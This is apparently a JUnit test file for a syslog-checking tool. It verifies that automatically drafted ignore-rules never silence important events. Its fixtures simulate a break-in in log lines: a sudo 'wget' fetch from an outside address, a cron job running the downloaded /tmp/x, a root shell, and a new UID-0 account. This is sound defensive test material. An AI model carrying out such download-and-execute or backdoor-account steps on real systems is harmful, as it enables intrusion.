package dev.logcheck.ruletest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** {@code --suggest} on lines that somebody should read: nothing is silenced unasked. */
final class ImportantDraftsTest {
  private static final String BEGIN =
      "^([[:alpha:]]{3} [ :[:digit:]]{11}|[0-9T:.+-]{32}) [._[:alnum:]-]+ ";

  /** What an administrator does on a quiet day, between the guesses of strangers. */
  private static final List<String> QUIET_DAY =
      List.of(
          "Nov 19 08:00:01 h sshd[101]: Failed password for root from 198.51.100.7 port 4022 ssh2",
          "Nov 19 08:00:02 h sshd[102]: Failed password for root from 198.51.100.8 port 4023 ssh2",
          "Nov 19 09:00:01 h sshd[201]: Accepted password for alice from 192.0.2.7 port 22 ssh2",
          "Nov 19 09:00:01 h sshd[201]: pam_unix(sshd:session): session opened for user"
              + " alice(uid=1000) by (uid=0)",
          "Nov 19 09:10:01 h sshd[202]: Accepted password for bob from 192.0.2.9 port 24 ssh2",
          "Nov 19 09:10:01 h sshd[202]: pam_unix(sshd:session): session opened for user"
              + " bob(uid=1001) by (uid=0)",
          "Nov 19 09:01:01 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ;"
              + " COMMAND=/usr/bin/apt update",
          "Nov 19 09:02:01 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ;"
              + " COMMAND=/usr/sbin/service cron restart",
          "Nov 19 09:03:01 h su[301]: Successful su for postgres by root",
          "Nov 19 09:03:01 h su[301]: + pts/0 root:postgres",
          "Nov 19 09:04:01 h CRON[401]: (root) CMD (/usr/local/bin/backup --daily)",
          "Nov 19 09:05:01 h CRON[402]: (root) CMD (/usr/local/bin/report -q)",
          "Nov 19 09:06:01 h useradd[501]: new user: name=carol, UID=1002, GID=1002,"
              + " home=/home/carol, shell=/bin/bash, from=/dev/pts/0");

  private static final List<String> BREAK_IN =
      List.of(
          "Nov 20 03:00:01 h sshd[901]: Accepted password for alice from 203.0.113.9 port 22 ssh2",
          "Nov 20 03:00:01 h sshd[901]: Accepted password for root from 203.0.113.9 port 22 ssh2",
          "Nov 20 03:00:01 h sshd[901]: pam_unix(sshd:session): session opened for user"
              + " alice(uid=1000) by (uid=0)",
          "Nov 20 03:01:01 h sudo:    alice : TTY=pts/3 ; PWD=/tmp ; USER=root ;"
              + " COMMAND=/usr/bin/wget http://203.0.113.9/x",
          "Nov 20 03:01:09 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ;"
              + " COMMAND=/bin/sh",
          "Nov 20 03:02:01 h su[902]: Successful su for root by alice",
          "Nov 20 03:02:01 h su[902]: + pts/3 alice:root",
          "Nov 20 03:03:01 h CRON[903]: (root) CMD (/tmp/x)",
          "Nov 20 03:04:01 h useradd[904]: new user: name=mallory, UID=0, GID=0, home=/root,"
              + " shell=/bin/bash, from=/dev/pts/3");

  private final Workbench workbench = new Workbench().rules("/none", "# nothing");

  @Test
  void theDraftsOfAQuietDaySilenceNothingOfABreakIn() {
    List<String> drafts = suggest(QUIET_DAY);
    assertTrue(drafts.stream().anyMatch(line -> line.startsWith("^")), drafts.toString());
    assertEquals(String.join("\n", BREAK_IN) + "\n", left(drafts, BREAK_IN));
  }

  @Test
  void norDoTheDraftsOfTheBreakInItself() {
    List<String> drafts = suggest(BREAK_IN);
    assertTrue(drafts.stream().anyMatch(line -> line.startsWith("#^")), drafts.toString());
    assertEquals(String.join("\n", BREAK_IN) + "\n", left(drafts, BREAK_IN));
  }

  @Test
  void importantDraftsStandAtTheEndWithTheirReason() {
    suggest(
        List.of(
            "Nov 19 09:00:01 h sshd[1]: Accepted password for alice from 192.0.2.7 port 22 ssh2",
            "Nov 19 09:00:02 h d: up"));
    assertEquals(
        """
        # 1 rule for 1 of 2 lines. Delete each rule whose lines you want to see in reports.

        %sd: up$
        # 1 line, e.g. Nov 19 09:00:02 h d: up

        # The rules from here on are commented out, since their lines are important.
        # To use one all the same, delete the # before its ^.

        #%ssshd\\[[0-9]+\\]: Accepted password for alice from 192\\.0\\.2\\.7 port [0-9]+ ssh[0-9]+$
        # Important: a log-in that succeeded.
        # 1 line, e.g. Nov 19 09:00:01 h sshd[1]: Accepted password for alice from 192.0.2.7 port\
         22 ssh2
        """
            .formatted(BEGIN, BEGIN),
        workbench.out());
  }

  @Test
  void ofAProgramThatNobodyKnowsOnlyRoutineIsDraftedForUse() {
    List<String> drafts =
        suggest(
            List.of(
                "Nov 19 09:00:01 h app[1]: login ok u1",
                "Nov 19 09:00:02 h app[1]: new admin account u2 created",
                "Nov 19 09:00:03 h app[1]: job 1 queued by u1: /tmp/x",
                "Nov 19 09:00:04 h app[1]: table users is corrupt",
                "Nov 19 09:00:05 h app[1]: 7 items in the queue"));
    assertEquals(
        List.of(BEGIN + "app\\[[0-9]+\\]: [0-9]+ items in the queue$"),
        drafts.stream().filter(line -> line.startsWith("^")).toList());
    assertTrue(drafts.contains("# Important: damage or an attack that was noticed."));
  }

  @Test
  void aRuleForAnyCommandIsNotEvenDrafted() {
    List<String> jobs =
        Stream.of("backup", "report", "tidy", "sync", "count", "rotate")
            .map(job -> "Nov 19 09:04:01 h CRON[4]: (root) CMD (/usr/local/bin/" + job + " -q)")
            .toList();
    List<String> drafts = suggest(jobs);
    assertFalse(drafts.toString().contains("CMD \\("), drafts.toString());
    assertEquals(
        List.of(
            "# No rule for the 6 lines.",
            "",
            "# No rule: it would match any command, also an attacker's.",
            "# 6 lines, e.g. " + jobs.get(0)),
        drafts);
  }

  @Test
  void aCommandThatIsAlwaysTheSameIsDraftedCommentedOut() {
    List<String> drafts =
        suggest(
            List.of(
                "Nov 19 09:04:01 h CRON[401]: (root) CMD (/usr/local/bin/backup --daily)",
                "Nov 20 09:04:01 h CRON[411]: (root) CMD (/usr/local/bin/backup --daily)"));
    assertTrue(
        drafts.contains(
            "#" + BEGIN + "CRON\\[[0-9]+\\]: \\(root\\) CMD \\(/usr/local/bin/backup --daily\\)$"),
        drafts.toString());
    assertTrue(drafts.contains("# Important: a command that a user or cron ran."));
  }

  @Test
  void aRuleForAnyMessageOfAProgramIsTooBroad() {
    String rule = BEGIN + "sshd\\[1\\]: [[:alnum:] ./]+$";
    workbench
        .onATerminal()
        .log("Nov 19 09:00:01 h sshd[1]: alpha")
        .file("/dev/tty", String.join("\n", "e", rule, "y", "n", "q") + "\n")
        .call("--suggest", "-i", "--into", "/local-mine", "-l", "/log", "-r", "/none");
    assertTrue(
        workbench.out().contains("It is too broad: it also matches Accepted password for root"),
        workbench.out());
  }

  @Test
  void whatRulesRaiseIsDraftedWithTheDirectoryThatCanDropIt() {
    workbench
        .rules("/t/violations.d/alarm", "alarm")
        .rules("/t/ignore.d.server/d", "^.* d: up$")
        .log("Nov 19 09:00:01 h d: up", "Nov 19 09:00:02 h d: alarm 7")
        .call("--suggest", "-l", "/log", "-r", "/t");
    assertTrue(
        workbench
            .out()
            .contains(
                "\n#"
                    + BEGIN
                    + "d: alarm [0-9]+$\n# Important: reported in Security Events for alarm; only a"
                    + " rule in violations.ignore.d can drop it.\n"),
        workbench.out());
    String head =
        "# No rule for the 1 line: those below are commented out, since their lines are important.";
    assertTrue(workbench.out().startsWith(head), workbench.out());
  }

  @Test
  void theRulesOfTheMachineTellWhatIsImportantWhateverRulesAreTried() {
    workbench
        .file("/c", "RULEDIR=/t\n")
        .rules("/t/violations.d/alarm", "alarm")
        .log("Nov 19 09:00:02 h d: alarm 7")
        .call("--suggest", "--config", "/c", "-l", "/log", "-r", "/none");
    assertTrue(workbench.out().contains("# Important: reported in Security Events"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
        "CRON(pam_unix)[1]: session opened for user root by (uid=0)",
        "sshd[1]: pam_unix(sshd:session): session closed for user alice",
        "sshd[1]: Failed password for alice from 192.0.2.7 port 22 ssh2",
        "sshd[1]: Connection closed by authenticating user alice 192.0.2.7 port 22 [preauth]",
        "postfix/smtpd[1]: disconnect from unknown[192.0.2.7] ehlo=1 commands=1",
        "postfix/smtpd[1]: warning: h[192.0.2.7]: SASL PLAIN authentication failed:"
            + " (reason unavailable), sasl_username=alice",
        "systemd[1]: Started Session 3 of User alice.",
        "systemd[1]: Created slice user-1000.slice - User Slice of UID 1000.",
        "systemd[1]: Stopped user@1000.service - User Manager for UID 1000.",
        "systemd[1]: Starting logrotate.service - Rotate log files...",
        "systemd[1]: Started apt-daily.timer - Daily apt download activities.",
        "systemd[1]: run-user-1000.mount: Succeeded.",
        "systemd[1]: logrotate.service: Deactivated successfully.",
        "systemd[1]: cron.service: Consumed 1.204s CPU time.",
        "systemd-logind[1]: Session 3 logged out. Waiting for processes to exit.",
        "dbus-daemon[1]: [system] Successfully activated service 'org.freedesktop.hostname1'",
        "polkitd[1]: Registered Authentication Agent for unix-session:1",
        "dhclient[1]: DHCPACK of 192.0.2.7 from 192.0.2.1",
        "dhclient[1]: bound to 192.0.2.7 -- renewal in 1542 seconds.",
        "dhcpd[1]: DHCPREQUEST for 192.0.2.7 from 00:00:5e:00:53:01 via eth0",
        "ntpd[1]: adjusting local clock by 0.3s",
        "chronyd[1]: Selected source 192.0.2.1",
        "named[1]: zone example.org/IN: loaded serial 7",
        "kernel: eth0: Link is Up - 1Gbps/Full",
        "postfix/smtpd[1]: connect from h[192.0.2.7]",
        "postfix/qmgr[1]: 4F2: from=<a@example.org>, size=1024, nrcpt=1 (queue active)",
        "postfix/qmgr[1]: 4F2: removed",
        "postfix/smtp[1]: 4F2: to=<a@example.org>, relay=h[192.0.2.7]:25, status=sent (250 ok)",
        "postfix/smtpd[1]: Anonymous TLS connection established from h[192.0.2.7]",
        "dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<alice>",
        "sshd[1]: Received disconnect from 192.0.2.7 port 22:11: Bye Bye [preauth]",
        "sshd[1]: Invalid user alice from 192.0.2.7 port 22",
        "sshd[1]: Connection from 192.0.2.7 accepted",
        "anacron[1]: Job `cron.daily' terminated"
      })
  void routineIsNotImportant(String message) {
    assertEquals("", GuardedMessage.meaning(message));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "login[1]: pam_unix(login:session): session opened for user alice(uid=1000)",
        "systemd-logind[1]: New session 3 of user alice.",
        "dovecot: imap-login: Login: user=<alice>, method=PLAIN",
        "postfix/smtpd[1]: 4F2: client=h[192.0.2.7], sasl_method=PLAIN, sasl_username=alice",
        "su: (to root) alice on pts/0",
        "pkexec[1]: alice: Executing command [USER=root] [COMMAND=/usr/bin/id]",
        "systemd[1]: Started run-r1.service - /bin/sh -c id.",
        "passwd[1]: pam_unix(passwd:chauthtok): password changed for alice",
        "gpasswd[1]: user mallory added by root to group sudo",
        "dropbear[1]: Password auth succeeded for 'u' from 192.0.2.7:4022",
        "dropbear[1]: Pubkey auth succeeded for 'u' with key sha1!! 00:5e from 192.0.2.7:4022",
        "radiusd[1]: (7) Login OK: [u1] (from client a port 0)",
        "pvedaemon[1]: <root@pam> successful auth for user 'u1@pam'",
        "internal-sftp[1]: session opened for local user u1 from [192.0.2.7]",
        "gitea[1]: u1 signed in from 192.0.2.7",
        "tac_plus[1]: login query for 'u1' port tty1 from 192.0.2.7 accepted",
        "keycloak[1]: type=LOGIN, realmId=a, userId=u1, ipAddress=192.0.2.7",
        "krb5kdc[1]: AS_REQ (1 etypes {18}) 192.0.2.7: ISSUE: authtime 1, u1@EXAMPLE.ORG",
        "app[1]: login ok u1",
        "app[1]: LOGIN OK u1",
        "imapd[1]: Login user=u1 host=mail.example.org [192.0.2.7]",
        "imapd: LOGIN, user=u1, ip=[192.0.2.7], port=[40122], protocol=IMAP",
        "app[1]: access token for u1 was accepted",
        "app[1]: account u1 added to wheel",
        "app[1]: new admin account u2 created",
        "app[1]: u1 set new password",
        "app[1]: grant root shell to u1",
        "app[1]: user u1 was promoted",
        "app[1]: running /usr/local/bin/x as root",
        "app[1]: u1 cmd /usr/local/bin/x",
        "app[1]: job 1 queued by u1: /tmp/x",
        "app[1]: Job /tmp/x started for u1",
        "av[1]: threat found in /tmp/x",
        "av[1]: Integrity checksum changed for /etc/passwd",
        "db[1]: table users is corrupt",
        "disk[1]: sector 7 unreadable",
        "tls[1]: certificate for www.example.org expired",
        "init[1]: firewall stopped by u1",
        "auditd[1]: audit log cleared by u1"
      })
  void whatSomebodyDidIsImportant(String message) {
    assertFalse(GuardedMessage.meaning(message).isEmpty());
  }

  private List<String> suggest(List<String> lines) {
    workbench.log(lines.toArray(String[]::new)).call("--suggest", "-l", "/log", "-r", "/none");
    return workbench.out().lines().toList();
  }

  /** What a file of the drafts leaves over of a later log. */
  private String left(List<String> drafts, List<String> lines) {
    workbench
        .log(lines.toArray(String[]::new))
        .rules("/local-drafts", drafts.toArray(String[]::new))
        .call("-i", "-q", "-l", "/log", "-r", "/local-drafts");
    return workbench.out();
  }
}
